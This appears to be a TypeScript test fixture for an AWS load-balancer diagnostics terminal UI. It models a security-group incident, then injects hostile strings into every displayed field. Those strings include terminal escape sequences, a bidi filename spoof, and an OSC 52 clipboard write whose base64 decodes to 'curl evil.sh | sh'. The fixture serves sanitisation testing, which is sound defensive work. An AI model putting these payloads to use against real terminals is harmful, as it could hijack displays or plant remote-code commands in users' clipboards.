// A realistic snapshot of the seed incident: at 13:38Z someone removed the target security
// group's rule for the clients' range, so the LB's interface logs ACCEPT for both legs while
// the target's interface logs REJECT ("REJ at target").
import type {
	ChangeEvent,
	Connection,
	FlowLeg,
	MetricPoint,
	MetricSeries,
	Snapshot,
	SourceState,
	Topology,
} from '../../../source/domain/snapshot.js';
import type {ShellPaneProperties} from '../../../source/ui/app-types.js';
import {type PaneContext, paneContext} from '../../../source/ui/panes/pane-context.js';

export const now = Date.UTC(2025, 5, 3, 13, 45, 0);
const minute = 60_000;
const windowStart = now - 15 * minute;
const seconds = (ms: number) => Math.floor(ms / 1000);

const lbIpA = '10.0.1.37';
const lbIpB = '10.0.2.41';

function leg(
	partial: Partial<FlowLeg> &
		Pick<FlowLeg, 'role' | 'srcAddr' | 'srcPort' | 'dstAddr' | 'dstPort' | 'action'>,
): FlowLeg {
	return {
		interfaceId: partial.role === 'target' ? 'eni-0target1111' : 'eni-0lbaaaa1111',
		availabilityZone: 'us-east-1a',
		protocol: 6,
		packets: 4,
		bytes: 240,
		start: seconds(now - 6 * minute),
		end: seconds(now - 5 * minute),
		...partial,
	};
}

function rejectedAtTarget(client: string, clientPort: number, target: string): Connection {
	return {
		id: `c-${client}-${clientPort}`,
		kind: 'exact',
		clientAddr: client,
		clientPort,
		listenerPort: 443,
		targetAddr: target,
		targetPort: 8443,
		protocol: 6,
		frontend: leg({
			role: 'frontend',
			srcAddr: client,
			srcPort: clientPort,
			dstAddr: lbIpA,
			dstPort: 443,
			action: 'ACCEPT',
			forward: {action: 'ACCEPT', packets: 2, bytes: 120, records: 1},
			reverse: {action: 'ACCEPT', packets: 2, bytes: 120, records: 1},
		}),
		backend: leg({
			role: 'backend',
			srcAddr: client,
			srcPort: clientPort,
			dstAddr: target,
			dstPort: 8443,
			action: 'ACCEPT',
		}),
		targetView: leg({
			role: 'target',
			srcAddr: client,
			srcPort: clientPort,
			dstAddr: target,
			dstPort: 8443,
			action: 'REJECT',
			packets: 3,
			bytes: 180,
			forward: {action: 'REJECT', packets: 3, bytes: 180, records: 1},
		}),
		packets: 11,
		bytes: 660,
		start: seconds(now - 6 * minute),
		end: seconds(now - 5 * minute),
	};
}

export const connections: readonly Connection[] = [
	rejectedAtTarget('203.0.113.7', 51_234, '10.0.1.10'),
	rejectedAtTarget('203.0.113.9', 40_022, '10.0.2.20'),
	{
		id: 'c-likely-1',
		kind: 'likely',
		clientAddr: '198.51.100.23',
		clientPort: 62_001,
		listenerPort: 443,
		targetAddr: '10.0.1.10',
		targetPort: 8443,
		protocol: 6,
		frontend: leg({
			role: 'frontend',
			srcAddr: '198.51.100.23',
			srcPort: 62_001,
			dstAddr: lbIpB,
			dstPort: 443,
			action: 'ACCEPT',
			packets: 220,
			bytes: 181_000,
		}),
		backend: leg({
			role: 'backend',
			srcAddr: lbIpB,
			srcPort: 33_012,
			dstAddr: '10.0.1.10',
			dstPort: 8443,
			action: 'ACCEPT',
			packets: 218,
			bytes: 180_400,
		}),
		packets: 438,
		bytes: 361_400,
		start: seconds(now - 9 * minute),
		end: seconds(now - 7 * minute),
	},
	{
		id: 'c-unpaired-1',
		kind: 'unpaired',
		clientAddr: '2001:db8::1234',
		clientPort: 55_555,
		listenerPort: 443,
		protocol: 6,
		frontend: leg({
			role: 'frontend',
			srcAddr: '2001:db8::1234',
			srcPort: 55_555,
			dstAddr: lbIpA,
			dstPort: 443,
			action: 'ACCEPT',
		}),
		packets: 4,
		bytes: 240,
		start: seconds(now - 4 * minute),
		end: seconds(now - 4 * minute),
	},
];

/** A per-minute series over the window; `undefined` entries are periods without a datapoint. */
function series(
	partial: Pick<MetricSeries, 'id' | 'metricName' | 'stat' | 'unit' | 'label'>,
	values: ReadonlyArray<number | undefined>,
): MetricSeries {
	const points: MetricPoint[] = [];
	for (const [index, value] of values.entries()) {
		if (value !== undefined) {
			points.push({t: windowStart + index * minute, v: value});
		}
	}

	return {
		namespace: 'AWS/NetworkELB',
		periodSeconds: 60,
		dimensions: {LoadBalancer: 'net/web-nlb/50dc6c495c0c9188'},
		points,
		...partial,
	};
}

const flowCounts = [
	600,
	640,
	620,
	610,
	630,
	660,
	650,
	400,
	380,
	390,
	undefined,
	410,
	395,
	402,
	undefined,
];

export const metricSeries: readonly MetricSeries[] = [
	series(
		{id: 'new', metricName: 'NewFlowCount', stat: 'Sum', unit: 'count', label: 'New flows'},
		flowCounts,
	),
	series(
		{
			id: 'active',
			metricName: 'ActiveFlowCount',
			stat: 'Average',
			unit: 'count',
			label: 'Active flows',
		},
		flowCounts.map((value) => (value === undefined ? undefined : value * 3)),
	),
	series(
		{
			id: 'bytes',
			metricName: 'ProcessedBytes',
			stat: 'Sum',
			unit: 'bytes',
			label: 'Processed bytes',
		},
		flowCounts.map((value) => (value === undefined ? undefined : value * 52_000)),
	),
	series(
		{
			id: 'healthy',
			metricName: 'HealthyHostCount',
			stat: 'Minimum',
			unit: 'count',
			label: 'Healthy hosts',
		},
		[2, 2, 2, 2, 2, 2, 2, 1, 1, 1, 1, 1, 1, 1, 1],
	),
	series(
		{
			id: 'resets',
			metricName: 'TCP_Target_Reset_Count',
			stat: 'Sum',
			unit: 'count',
			label: 'Target resets',
		},
		[0, 0, 0, 0, 0, 0, 0, 45, 52, 48, 50, 47, 51, 49, 50],
	),
	series(
		{
			id: 'latency',
			metricName: 'TargetResponseTime',
			stat: 'Average',
			unit: 'seconds',
			label: 'Response time',
		},
		[
			0.012,
			0.013,
			0.011,
			0.012,
			undefined,
			undefined,
			0.25,
			0.31,
			0.3,
			0.29,
			0.3,
			0.28,
			0.3,
			0.31,
			0.3,
		],
	),
];

export const changeEvents: readonly ChangeEvent[] = [
	{
		id: 'ev-revoke',
		time: Date.UTC(2025, 5, 3, 13, 38, 12),
		source: 'ec2.amazonaws.com',
		name: 'RevokeSecurityGroupIngress',
		actor: {type: 'AssumedRole', name: 'ops-admin', session: 'alice'},
		sourceIp: '198.51.100.77',
		userAgent: 'aws-cli/2.15.0',
		summary: 'sg-0target tcp/8443 from 203.0.113.0/24',
		resources: ['sg-0target'],
		readOnly: false,
		detail: JSON.stringify(
			{
				eventVersion: '1.08',
				eventTime: '2025-06-03T13:38:12Z',
				eventSource: 'ec2.amazonaws.com',
				eventName: 'RevokeSecurityGroupIngress',
				awsRegion: 'us-east-1',
				sourceIPAddress: '198.51.100.77',
				userAgent: 'aws-cli/2.15.0',
				requestParameters: {
					groupId: 'sg-0target',
					ipPermissions: {
						items: [
							{
								ipProtocol: 'tcp',
								fromPort: 8443,
								toPort: 8443,
								ipRanges: {items: [{cidrIp: '203.0.113.0/24'}]},
							},
						],
					},
				},
				responseElements: {_return: true},
			},
			undefined,
			2,
		),
	},
	{
		id: 'ev-denied',
		time: Date.UTC(2025, 5, 3, 13, 40, 3),
		source: 'elasticloadbalancing.amazonaws.com',
		name: 'ModifyTargetGroupAttributes',
		actor: {type: 'IAMUser', name: 'bob'},
		sourceIp: '192.0.2.10',
		summary: 'preserve_client_ip.enabled=false',
		resources: ['targetgroup/web/abc'],
		errorCode: 'AccessDenied',
		readOnly: false,
		detail: '{}',
	},
	{
		id: 'ev-old',
		time: Date.UTC(2025, 5, 2, 9, 5, 0),
		source: 'elasticloadbalancing.amazonaws.com',
		name: 'RegisterTargets',
		actor: {type: 'AssumedRole', name: 'deployer', session: 'ci-1234'},
		sourceIp: 'codepipeline.amazonaws.com',
		summary: 'i-0abc1234 port 8443',
		resources: ['targetgroup/web/abc'],
		readOnly: false,
		detail: '{}',
	},
];

export const targetGroupArn =
	'arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/web-tg/6d0ecf831eec9f09';

export const topology: Topology = {
	arn: 'arn:aws:elasticloadbalancing:us-east-1:123456789012:loadbalancer/net/web-nlb/50dc6c495c0c9188',
	name: 'web-nlb',
	type: 'network',
	scheme: 'internet-facing',
	vpcId: 'vpc-0123',
	dnsName: 'web-nlb-50dc6c495c0c9188.elb.us-east-1.amazonaws.com',
	state: 'active',
	metricDimension: 'net/web-nlb/50dc6c495c0c9188',
	availabilityZones: [
		{
			zone: 'us-east-1a',
			subnetId: 'subnet-0aaa',
			interfaceId: 'eni-0lbaaaa1111',
			privateIps: [lbIpA],
			publicIps: [],
		},
		{
			zone: 'us-east-1b',
			subnetId: 'subnet-0bbb',
			interfaceId: 'eni-0lbbbbb2222',
			privateIps: [lbIpB],
			publicIps: [],
		},
	],
	securityGroups: ['sg-0nlb'],
	securityGroupDetails: [],
	networkAcls: [],
	listeners: [{arn: 'arn:listener', port: 443, protocol: 'TCP', targetGroupArns: [targetGroupArn]}],
	targetGroups: [
		{
			arn: targetGroupArn,
			name: 'web-tg',
			protocol: 'TCP',
			port: 8443,
			targetType: 'instance',
			preserveClientIp: true,
			proxyProtocolV2: false,
			targets: [
				{
					id: 'i-0abc1234',
					port: 8443,
					availabilityZone: 'us-east-1a',
					ip: '10.0.1.10',
					interfaceId: 'eni-0target1111',
					securityGroups: ['sg-0target'],
					health: {state: 'healthy'},
				},
				{
					id: 'i-0def5678',
					port: 8443,
					availabilityZone: 'us-east-1b',
					ip: '10.0.2.20',
					interfaceId: 'eni-0target2222',
					securityGroups: ['sg-0target'],
					health: {
						state: 'unhealthy',
						reason: 'Target.FailedHealthChecks',
						description: 'Health checks failed',
					},
				},
			],
		},
	],
	flowLogs: [],
	logGroups: ['/vpc/flow-logs'],
	gaps: [],
};

const ok = (dataThrough: number): SourceState => ({
	status: 'ok',
	fetchedAt: now - 5000,
	dataThrough,
});

export const snapshot: Snapshot = {
	schemaVersion: 1,
	generatedAt: now,
	region: 'us-east-1',
	target: 'web-nlb',
	identity: {account: '123456789012', arn: 'arn:aws:sts::123456789012:assumed-role/oncall/alice'},
	window: {start: windowStart, end: now},
	paused: false,
	topology,
	sources: {
		identity: {status: 'ok', fetchedAt: now - 60_000},
		discovery: {status: 'ok', fetchedAt: now - 60_000},
		flows: ok(now - 4 * minute - 50_000),
		metrics: ok(now - 2 * minute),
		changes: ok(now - 3 * minute),
	},
	flows: {
		connections,
		sampled: true,
		recordsRead: 2000,
		recordsMatched: 48_211,
		malformedRecords: 3,
		dataThrough: now - 4 * minute - 50_000,
		aggregationSeconds: 60,
		aggregates: {
			accepted: {flows: 48_000, packets: 1_900_000, bytes: 1_400_000_000},
			rejected: {flows: 1240, packets: 3720, bytes: 223_200},
			acceptedSources: [
				{
					addr: '198.51.100.23',
					ports: [443],
					flows: 30_100,
					packets: 1_200_000,
					bytes: 900_000_000,
				},
				{addr: '203.0.113.7', ports: [443], flows: 9_000, packets: 400_000, bytes: 300_000_000},
			],
			rejectedSources: [
				{
					addr: '203.0.113.7',
					ports: [8443],
					flows: 800,
					packets: 2400,
					bytes: 144_000,
					where: 'target',
				},
				{
					addr: '203.0.113.9',
					ports: [8443],
					flows: 400,
					packets: 1200,
					bytes: 72_000,
					where: 'target',
				},
				{
					addr: '45.33.32.156',
					ports: [22, 23, 3389, 5900],
					flows: 40,
					packets: 120,
					bytes: 7200,
					where: 'lb',
				},
			],
			acceptedPorts: [{port: 443, flows: 48_000, packets: 1_900_000, bytes: 1_400_000_000}],
			rejectedPorts: [
				{port: 8443, flows: 1200, packets: 3600, bytes: 216_000, where: 'target'},
				{port: 22, flows: 20, packets: 60, bytes: 3600, where: 'lb'},
			],
			interfaces: [],
			timeline: Array.from({length: 15}, (_, index) => ({
				start: seconds(windowStart + index * minute),
				accepted: index < 7 ? 3500 : 3000,
				rejected: index < 7 ? 0 : 150,
				bytes: 100_000_000,
				precision: index < 10 ? ('exact' as const) : ('provisional' as const),
			})).filter((bucket) => bucket.start !== seconds(windowStart + 12 * minute)),
			bucketSeconds: 60,
			precision: 'provisional',
		},
	},
	metrics: {
		series: metricSeries,
		alarms: [
			{
				name: 'web-nlb-healthy-hosts',
				state: 'ALARM',
				reason: 'Threshold Crossed: 1 datapoint [1.0] was less than the threshold (2.0)',
				since: Date.UTC(2025, 5, 3, 13, 41, 0),
				metricName: 'HealthyHostCount',
				dimensions: {},
			},
			{name: 'web-nlb-bytes', state: 'OK', reason: 'ok', since: now - 3_600_000, dimensions: {}},
			{
				name: 'web-nlb-resets',
				state: 'INSUFFICIENT_DATA',
				reason: 'no data',
				since: now - 600_000,
				dimensions: {},
			},
		],
		dataThrough: now - 2 * minute,
	},
	changes: {events: changeEvents, dataThrough: now - 3 * minute},
	findings: [
		{
			id: 'f-sg',
			rule: 'target-sg-rejects-clients',
			severity: 'critical',
			confidence: 'high',
			title: 'Target security group rejects client IPs: ACCEPT at LB, REJECT at target i-0abc1234',
			since: Date.UTC(2025, 5, 3, 13, 41, 0),
			evidence: [
				{kind: 'connection', id: 'c-203.0.113.7-51234'},
				{kind: 'change', id: 'ev-revoke'},
			],
			next: 'Allow 203.0.113.0/24 on tcp/8443 in sg-0target, or reference the NLB security group',
			relatedChangeId: 'ev-revoke',
		},
		{
			id: 'f-scan',
			rule: 'unexpected-source',
			severity: 'info',
			confidence: 'medium',
			title: 'Port scan from 45.33.32.156 rejected at the LB',
			evidence: [{kind: 'rejected-source', addr: '45.33.32.156'}],
			next: 'Nothing to do unless the scan grows',
		},
		{
			id: 'f-health',
			rule: 'unhealthy-target',
			severity: 'warning',
			confidence: 'high',
			title: 'Target i-0def5678 is unhealthy (Target.FailedHealthChecks)',
			since: Date.UTC(2025, 5, 3, 13, 40, 30),
			evidence: [
				{kind: 'target', targetGroupArn, id: 'i-0def5678'},
				{kind: 'metric', seriesId: 'healthy'},
				{kind: 'alarm', name: 'web-nlb-healthy-hosts'},
			],
			next: 'Check the health check port on i-0def5678',
		},
	],
	cost: {queries: 12, bytesScanned: 2_000_000_000, usdPerGb: 0.005, usd: 0.01},
};

/** A pane's props drawn at a fixed time, the fixture's `now`. */
export function properties(
	overrides: Partial<ShellPaneProperties> = {},
): ShellPaneProperties & {readonly now: number} {
	return {
		snapshot,
		width: 78,
		height: 20,
		focused: false,
		selected: 0,
		timeZone: 'utc',
		now,
		ascii: false,
		color: false,
		...overrides,
	};
}

/** Strings an attacker can put into AWS data: escape sequences, clipboard writes, floods, wide text. */
export const hostile = {
	csi: 'evil\u001b[2J\u001b[31mred\u001b[0m',
	osc52: 'copy\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007me',
	c1: 'x\u009b31mc1',
	newline: 'line1\nline2\r\nline3',
	long: 'A'.repeat(5000),
	cjk: '安全组规则变更'.repeat(40),
	bidi: 'abc\u202Egnp.exe',
} as const;

export const hostileText = Object.values(hostile).join(' ');

export function context(overrides: Partial<ShellPaneProperties> = {}): PaneContext {
	return paneContext(properties(overrides));
}

/** The fixture with attacker-controllable strings in every field a pane draws. */
export function hostileSnapshot(): Snapshot {
	const base = snapshot;
	const flows = base.flows;
	const metrics = base.metrics;
	if (flows === undefined || metrics === undefined) {
		return base;
	}

	const [first] = connections;
	const evilLeg = first?.frontend && {
		...first.frontend,
		interfaceId: hostile.c1,
		availabilityZone: hostile.bidi,
		srcAddr: hostile.osc52,
	};
	const evilConnection = {
		...first,
		clientAddr: hostile.osc52,
		targetAddr: hostile.cjk,
		...(evilLeg === undefined ? {} : {frontend: evilLeg}),
	} as Connection;
	const evilTargets = topology.targetGroups.map((group) => ({
		...group,
		name: hostile.csi,
		targets: group.targets.map((target) => ({
			...target,
			health: {state: target.health.state, reason: hostile.osc52, description: hostileText},
		})),
	}));
	const evilSource = {
		addr: hostileText,
		ports: [1],
		flows: 1,
		packets: 1,
		bytes: 1,
		where: 'target' as const,
	};
	return {
		...base,
		sources: {
			...base.sources,
			identity: {status: 'unavailable', note: hostile.osc52},
			discovery: {
				status: 'error',
				error: {kind: 'unknown', message: hostile.csi, hint: hostile.long, at: now},
			},
		},
		flows: {
			...flows,
			connections: [evilConnection, ...connections],
			aggregates: {
				...flows.aggregates,
				acceptedSources: [evilSource, ...flows.aggregates.acceptedSources],
				rejectedSources: [evilSource, ...flows.aggregates.rejectedSources],
			},
		},
		metrics: {
			...metrics,
			series: metrics.series.map((entry) => ({...entry, label: `${hostile.cjk}${hostile.csi}`})),
			alarms: [
				{name: hostile.osc52, state: 'ALARM', reason: hostileText, since: now, dimensions: {}},
			],
		},
		topology: {...topology, targetGroups: evilTargets},
		changes: {
			events: changeEvents.map((event) => ({
				...event,
				detail: [hostile.csi, hostile.osc52, hostile.long, hostile.cjk, hostile.bidi].join('\n'),
				userAgent: hostile.osc52,
				resources: [hostile.c1, hostile.cjk],
				name: hostile.csi,
				summary: hostileText,
				actor: {type: hostile.c1, name: hostile.cjk, session: hostile.osc52},
				sourceIp: hostile.newline,
				errorCode: hostile.bidi,
			})),
		},
		findings: base.findings.map((finding) => ({
			...finding,
			title: hostileText,
			next: hostile.long,
		})),
	};
}
